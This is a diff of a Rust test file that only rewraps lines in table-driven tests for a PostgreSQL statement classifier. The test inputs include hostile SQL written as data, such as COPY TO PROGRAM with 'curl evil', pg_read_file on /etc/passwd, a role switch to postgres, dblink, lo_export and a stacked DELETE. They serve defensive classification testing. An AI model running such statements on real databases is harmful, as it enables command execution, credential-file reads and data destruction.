@@ -53,11 +53,20 @@ fn classification_table() {
             "WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x",
             "select, update, update public.t",
         ),
-        ("SELECT * INTO newtable FROM orders", "select public.orders, ddl public.newtable"),
+        (
+            "SELECT * INTO newtable FROM orders",
+            "select public.orders, ddl public.newtable",
+        ),
         ("CREATE TABLE t (id int)", "ddl public.t"),
         ("DROP TABLE orders", "ddl public.orders"),
-        ("DROP TABLE app.orders, pg_user", "ddl app.orders, ddl pg_catalog.pg_user"),
-        ("TRUNCATE orders, customers", "ddl public.customers, ddl public.orders"),
+        (
+            "DROP TABLE app.orders, pg_user",
+            "ddl app.orders, ddl pg_catalog.pg_user",
+        ),
+        (
+            "TRUNCATE orders, customers",
+            "ddl public.customers, ddl public.orders",
+        ),
         (
             "CREATE VIEW v AS SELECT * FROM secret",
             "select public.secret, ddl public.v",
@@ -67,7 +76,10 @@ fn classification_table() {
         ("COPY orders TO STDOUT", "copy public.orders"),
         ("COPY orders FROM STDIN", "copy public.orders"),
         ("COPY orders TO '/tmp/x'", "copy_server public.orders"),
-        ("COPY orders TO PROGRAM 'curl evil'", "copy_server public.orders"),
+        (
+            "COPY orders TO PROGRAM 'curl evil'",
+            "copy_server public.orders",
+        ),
         (
             "COPY (SELECT * FROM secret) TO STDOUT",
             "select public.secret, copy",
@@ -83,22 +95,40 @@ fn classification_table() {
             "EXPLAIN ANALYZE DELETE FROM orders",
             "select, delete, delete public.orders",
         ),
-        ("SELECT pg_read_file('/etc/passwd')", "select, function pg_read_file"),
+        (
+            "SELECT pg_read_file('/etc/passwd')",
+            "select, function pg_read_file",
+        ),
         (
             "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
             "select, function dblink",
         ),
-        ("SELECT set_config('role', 'postgres', false)", "select, function set_config"),
+        (
+            "SELECT set_config('role', 'postgres', false)",
+            "select, function set_config",
+        ),
         ("SELECT nextval('seq')", "select, function nextval"),
-        ("SELECT pg_catalog.lo_export(1, '/tmp/x')", "select, function lo_export"),
+        (
+            "SELECT pg_catalog.lo_export(1, '/tmp/x')",
+            "select, function lo_export",
+        ),
         (
             "SELECT query_to_xml('delete from orders', true, true, '')",
             "select, function query_to_xml",
         ),
-        ("SELECT lower(name) FROM customers", "select public.customers"),
-        ("SELECT 1; DELETE FROM orders", "select; delete public.orders"),
+        (
+            "SELECT lower(name) FROM customers",
+            "select public.customers",
+        ),
+        (
+            "SELECT 1; DELETE FROM orders",
+            "select; delete public.orders",
+        ),
         ("LISTEN channel", "unknown"),
-        ("PREPARE p AS DELETE FROM orders", "delete, delete public.orders, unknown"),
+        (
+            "PREPARE p AS DELETE FROM orders",
+            "delete, delete public.orders, unknown",
+        ),
         ("EXECUTE p", "unknown"),
         ("LOCK TABLE orders", "ddl public.orders"),
         (
@@ -128,9 +158,18 @@ fn statement_kinds() {
 
 #[test]
 fn unparseable_sql_is_an_error_with_the_parser_message() {
-    for sql in ["SELEC 1", "SELECT * FROM", "", ";", "DELETE FROM orders WHERE ("] {
+    for sql in [
+        "SELEC 1",
+        "SELECT * FROM",
+        "",
+        ";",
+        "DELETE FROM orders WHERE (",
+    ] {
         let err = classify(sql).expect_err(sql);
-        assert!(err.to_string().starts_with("SQL does not parse"), "{sql}: {err}");
+        assert!(
+            err.to_string().starts_with("SQL does not parse"),
+            "{sql}: {err}"
+        );
     }
     assert!(classify("SELEC 1").unwrap_err().0.contains("syntax error"));
 }
